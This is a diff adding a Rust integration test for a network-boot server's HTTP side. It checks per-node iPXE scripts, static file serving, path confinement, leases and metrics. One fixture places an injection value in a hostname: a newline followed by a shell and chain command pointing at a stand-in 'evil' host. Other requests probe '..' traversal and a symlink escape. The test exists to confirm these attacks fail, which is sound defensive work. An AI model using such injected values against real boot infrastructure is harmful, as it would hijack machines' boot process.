@@ -1,0 +1,130 @@
+//! The HTTP handoff in the lab, with curl: per-node scripts (known, unknown, injection
+//! attempts), static files with Range and HEAD, refusals, leases and metrics.
+
+use netboot::lab::{Agent, Lab, LabSpec, pattern};
+use std::path::{Path, PathBuf};
+use tests::{bin, require_root};
+
+struct Setup {
+    lab: Lab,
+    dir: PathBuf,
+    root: PathBuf,
+    _agent: Agent,
+}
+
+fn setup() -> Setup {
+    let lab = Lab::create(&LabSpec { server: "10.77.0.1/16".parse().unwrap(), client: Some("10.77.0.2/16".parse().unwrap()) }).unwrap();
+    let dir = std::env::temp_dir().join(format!("nbx-http-{}", lab.id));
+    let _ = std::fs::remove_dir_all(&dir);
+    let root = dir.join("root");
+    std::fs::create_dir_all(&root).unwrap();
+    std::fs::copy(Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/boot.ipxe.j2"), root.join("boot.ipxe.j2")).unwrap();
+    std::fs::write(root.join("vmlinuz"), pattern(1 << 20, 9)).unwrap();
+    std::fs::write(dir.join("secret"), b"outside").unwrap();
+    std::os::unix::fs::symlink(dir.join("secret"), root.join("escape")).unwrap();
+    let config = dir.join("netboot.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "[server]\naddress = \"10.77.0.1\"\nstate_dir = \"{}\"\n[dhcp]\nsubnet = \"10.77.0.0/16\"\n[[dhcp.host]]\nmac = \"52:54:00:00:00:07\"\nip = \"10.77.0.7\"\nhostname = \"node-007\"\nvars = {{ rack = \"r1\", role = \"worker\" }}\n[[dhcp.host]]\nmac = \"52:54:00:00:00:66\"\nip = \"10.77.0.66\"\nhostname = \"x\\nshell; chain http://evil/${{a}}\"\nvars = {{ note = \"a b\\nc\" }}\n[http]\nlisten = \"0.0.0.0:8080\"\nroot = \"{}\"\nscript = \"boot.ipxe.j2\"\n",
+            dir.join("state").display(),
+            root.display()
+        ),
+    )
+    .unwrap();
+    let agent = Agent::start(&lab, &bin("netboot-xdp"), &config, &[]).unwrap();
+    Setup { lab, dir, root, _agent: agent }
+}
+
+/// curl in the client namespace: (HTTP status, body).
+fn curl(s: &Setup, args: &[&str]) -> (u16, Vec<u8>) {
+    let out_file = s.dir.join("body");
+    let _ = std::fs::remove_file(&out_file);
+    let out = s
+        .lab
+        .client
+        .command("curl")
+        .args(["-s", "--max-time", "10", "-o", &out_file.display().to_string(), "-w", "%{http_code}"])
+        .args(args)
+        .output()
+        .unwrap();
+    let code = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap_or(0);
+    (code, std::fs::read(&out_file).unwrap_or_default())
+}
+
+#[test]
+fn scripts_files_leases_and_metrics() {
+    if !require_root("scripts_files_leases_and_metrics") {
+        return;
+    }
+    let _serial = tests::serial();
+    let s = setup();
+    let base = "http://10.77.0.1:8080";
+
+    // A known node: the default template chains kernel and initrd with its variables.
+    let (code, body) = curl(&s, &[&format!("{base}/boot.ipxe?mac=52:54:00:00:00:07")]);
+    let script = String::from_utf8_lossy(&body);
+    assert_eq!(code, 200, "{script}");
+    assert!(script.starts_with("#!ipxe"), "{script}");
+    assert!(script.contains("kernel http://10.77.0.1:8080/vmlinuz initrd=initrd.img ip=dhcp hostname=node-007 rack=r1 role=worker"), "{script}");
+    assert!(script.contains("initrd http://10.77.0.1:8080/initrd.img"), "{script}");
+    // An unknown node: the template decides (the default exits to the local disk).
+    let (code, body) = curl(&s, &[&format!("{base}/boot.ipxe?mac=52:54:00:99:99:99")]);
+    assert_eq!(code, 200);
+    assert!(String::from_utf8_lossy(&body).contains("\nexit"), "{}", String::from_utf8_lossy(&body));
+    // Injection attempts in a hostname and a variable stay inert: one line each, no `;`, `$`.
+    let (_, body) = curl(&s, &[&format!("{base}/boot.ipxe?mac=52:54:00:00:00:66")]);
+    let script = String::from_utf8_lossy(&body).into_owned();
+    let kernel = script.lines().find(|l| l.starts_with("kernel ")).expect("kernel line");
+    assert!(!kernel.contains(';') && !kernel.contains('$') && !kernel.contains(" chain"), "{kernel}");
+    assert!(!script.lines().any(|l| l.trim_start().starts_with("shell") || l.trim_start().starts_with("chain")), "{script}");
+
+    // Static files: whole, Range, HEAD.
+    let file = std::fs::read(s.root.join("vmlinuz")).unwrap();
+    let (code, body) = curl(&s, &[&format!("{base}/vmlinuz")]);
+    assert_eq!((code, body == file), (200, true));
+    let (code, body) = curl(&s, &["-r", "1000-1999", &format!("{base}/vmlinuz")]);
+    assert_eq!(code, 206);
+    assert_eq!(body, file[1000..2000]);
+    let head = s.lab.client.command("curl").args(["-sI", "--max-time", "5", &format!("{base}/vmlinuz")]).output().unwrap();
+    let head = String::from_utf8_lossy(&head.stdout).to_lowercase();
+    assert!(head.contains("content-length: 1048576") && head.contains("last-modified"), "{head}");
+
+    // Confinement: `..` (sent as is) and a symlink out of the root.
+    let (code, body) = curl(&s, &["--path-as-is", &format!("{base}/../secret")]);
+    assert!(code == 403 || code == 404, "{code}");
+    assert_ne!(body, b"outside");
+    let (code, body) = curl(&s, &[&format!("{base}/escape")]);
+    assert_eq!(code, 403);
+    assert_ne!(body, b"outside");
+    let (code, _) = curl(&s, &[&format!("{base}/missing")]);
+    assert_eq!(code, 404);
+
+    // Leases as JSON (empty until a client asks for one), metrics in Prometheus text format.
+    let (code, body) = curl(&s, &[&format!("{base}/api/v1/leases")]);
+    assert_eq!(code, 200);
+    assert!(serde_json::from_slice::<serde_json::Value>(&body).unwrap().is_array());
+    let (code, body) = curl(&s, &[&format!("{base}/metrics")]);
+    assert_eq!(code, 200);
+    let text = String::from_utf8_lossy(&body).into_owned();
+    let mut samples = 0;
+    for line in text.lines().filter(|l| !l.is_empty()) {
+        if line.starts_with("# HELP ") || line.starts_with("# TYPE ") {
+            continue;
+        }
+        // name{labels} value
+        let (series, value) = line.rsplit_once(' ').expect("sample");
+        assert!(value.parse::<f64>().is_ok(), "{line}");
+        let (name, labels) = series.split_once('{').expect("labels");
+        assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && labels.ends_with('}'), "{line}");
+        samples += 1;
+    }
+    assert!(text.contains("netboot_xdp_decisions_total{") && text.contains("decision=\"packets\""), "{text}");
+    assert!(samples > 20, "{text}");
+
+    // A broken template is a clear 500 that names the line.
+    std::fs::write(s.root.join("boot.ipxe.j2"), "#!ipxe\n{% if %}\n").unwrap();
+    let (code, body) = curl(&s, &[&format!("{base}/boot.ipxe?mac=52:54:00:00:00:07")]);
+    assert_eq!(code, 500);
+    assert!(String::from_utf8_lossy(&body).contains("boot.ipxe.j2:2"), "{}", String::from_utf8_lossy(&body));
+}
